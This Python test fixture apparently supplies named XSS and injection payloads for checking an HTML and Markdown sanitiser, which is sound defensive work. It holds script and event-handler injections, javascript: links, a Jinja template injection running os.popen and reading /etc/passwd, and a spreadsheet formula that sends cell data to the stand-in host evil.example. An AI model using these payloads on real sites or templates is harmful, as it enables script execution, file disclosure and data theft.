"""What a hostile stranger could write, by name. RUN is a call that a browser would answer with a dialog."""

RUN = "alert(window.__ran=1)"
ELSEWHERE = "https://evil.example"

_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload={RUN}></svg>"

SNIPPETS: dict[str, str] = {
    name: written.replace("RUN", RUN).replace("EVIL", ELSEWHERE)
    for name, written in {
        # HTML that runs
        "script": "<script>RUN</script>",
        "script in capitals": "<ScRiPt>RUN</sCrIpT>",
        "script in a script": "<scr<script>ipt>RUN</scr</script>ipt>",
        "script from elsewhere": "<script src=EVIL/x.js></script>",
        "module": '<script type="module">import "EVIL/x.js"</script>',
        "script after an end of script": "</script><script>RUN</script>",
        "script after an end of title": "</title></textarea></style></noscript><script>RUN</script>",
        "handler of an image": "<img src=x onerror=RUN>",
        "handler without spaces": "<img/src=x/onerror=RUN>",
        "handler in an attribute": '" autofocus onfocus=RUN x="',
        "handler in another quotation mark": "' onmouseover=RUN onclick=RUN '",
        "handler in back quotes": '<img src="x` `onerror=RUN">',
        "handler of a body": "<body onload=RUN>",
        "handler of a box that opens": "<details open ontoggle=RUN><summary>x</summary></details>",
        "handler of a field": "<input autofocus onfocus=RUN><select autofocus onfocus=RUN></select>",
        "handler of an animation": "<b style='animation:x' onanimationstart=RUN>x</b>",
        "handler of a custom element": "<x-x onclick=RUN tabindex=1 onfocus=RUN>x</x-x>",
        "video": "<video src=x onerror=RUN></video><audio src=EVIL/x onerror=RUN></audio>",
        "svg": "<svg onload=RUN><script>RUN</script></svg>",
        "svg link": '<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>',
        "svg use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
        "svg animation": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
        "mathematics": "<math><mtext><mglyph><style><img src=x onerror=RUN></style></mglyph></mtext></math>",
        "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
        "comment": "<!-- --!><img src=x onerror=RUN> -->",
        "CDATA": "<![CDATA[><img src=x onerror=RUN>]]>",
        "unclosed tag": f"<img src=x onerror={RUN} ",
        # HTML that asks or leads elsewhere
        "frame": "<iframe src='javascript:RUN'></iframe>",
        "frame with a page": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
        "object": "<object data='javascript:RUN'></object><embed src=EVIL/x.swf>",
        "refresh": '<meta http-equiv="refresh" content="0;url=EVIL">',
        "refresh in an attribute": '0;url=EVIL" http-equiv="refresh',
        "base": "<base href=EVIL/>",
        "style sheet": "<link rel=stylesheet href=EVIL/x.css><style>@import 'EVIL/x.css';</style>",
        "style": '<p style="position:fixed;inset:0;background:url(EVIL/x.png)">x</p>',
        "pixel": "<img src=EVIL/x.png srcset='EVIL/y.png 2x'>",
        "form": "<form action=EVIL><button formaction='javascript:RUN'>x</button><input type=submit></form>",
        "ping": "<a href=x ping=EVIL target=_top onclick=RUN>x</a>",
        # HTML that takes names which scripts look up
        "clobbered document": "<form name=getElementById></form><img name=querySelector><a id=location></a>",
        "clobbered data": "<a id=mtcEvaluation></a><a id=mtcConnected name=url href=javascript:RUN></a>",
        # Markdown
        "link": "[x](javascript:RUN)",
        "link in capitals": "[x](JaVaScRiPt:RUN)",
        "link in angle brackets": "[x](<javascript:RUN>) [x](<java\tscript:RUN>) [x](< javascript:RUN>)",
        "link in entities": "[x](&#106;avascript:RUN) [x](javascript&colon;RUN) [x](java&Tab;script:RUN)",
        "link by reference": "[x][hostile]\n\n[hostile]: javascript:RUN",
        "link with a title": '[x](https://a.example "\\" onclick=RUN x=\\"") [x](<https://a.example/" onclick="RUN>)',
        "link to data": "[x](data:text/html,<script>RUN</script>) [x](data:text/html;base64,PHNjcmlwdD4=)",
        "link of other schemes": "[x](vbscript:RUN) [x](file:///etc/passwd) [x](blob:EVIL/x)",
        "link without a scheme": "[x](//evil.example) [x](/\\evil.example) [x](\\\\evil.example) [x](https:evil)",
        "link to an entry": '[x](technique:winterschnitt#"onclick=RUN) [x](story:javascript:RUN) [x](guide:../../x)',
        "link to a term": "[x](term:RUN) [x](term:<script>)",
        "automatic link": f"<javascript:{RUN}> <data:text/html,x>",
        "picture": "![x](javascript:RUN) ![x](data:image/svg+xml,<svg/onload=RUN>)",
        "picture from elsewhere": "![x](EVIL/x.png) ![x](//evil.example/x.png) ![x](../../https:/evil.example/x.png)",
        "picture with words": '![" onerror="RUN](birnbaum.png) ![x](birnbaum.png "\\" onerror=RUN")',
        "attributes": '*x*{: onclick="RUN" } **x**{ onmouseover=RUN } [x](https://a.example){lang=de onclick=RUN}',
        "attributes of a heading": '### x {#x onclick="RUN"}',
        "id of a page": "### x {#__nav}\n\n### x {#location}",
        "note": "x[^hostile]\n\n[^hostile]: <img src=x onerror=RUN> [x](javascript:RUN)",
        "note with a name": 'x[^"onclick=RUN]\n\n[^"onclick=RUN]: x',
        "box": '!!! visually-hidden "<img src=x onerror=RUN>"\n    <script>RUN</script>',
        "box with a class": '!!! note" onclick="RUN "x"\n    x',
        "table": '| <script>RUN</script> |\n|:-:|\n| [x](javascript:RUN) |',
        "code": '```" onload="RUN\n</code></pre><script>RUN</script>\n```',
        "citation": '[see <b onclick=RUN> @muster-2019, S. <script>RUN</script>] [@muster-2019, " onclick="RUN]',
        # what other programs would run
        "Jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }} {% include '/etc/passwd' %} {{ RUN }}",
        "snippet": '--8<-- "/etc/passwd"',
        "JavaScript": "${RUN} `${RUN}` \\u003cscript\\u003eRUN\\u003c/script\\u003e \\u2028RUN",
        "formula": '=HYPERLINK("EVIL?x="&A1,"x")',
        "end of a script's data": '"}};RUN//</script>',
    }.items()
}  # fmt: skip

PLAIN = f"""<!doctype html><title>Plainly hostile</title>
<body onload="{RUN}"><p id="location">x</p><a id="mtcConnected" href="javascript:{RUN}">x</a>
<img src="{ELSEWHERE}/x.png" onerror="{RUN}"><iframe srcdoc="{_SVG}"></iframe>
<p style="position:fixed">x</p><script>window.__ran = 1; nothing.there()</script>"""
"""A page on which nothing was refused."""
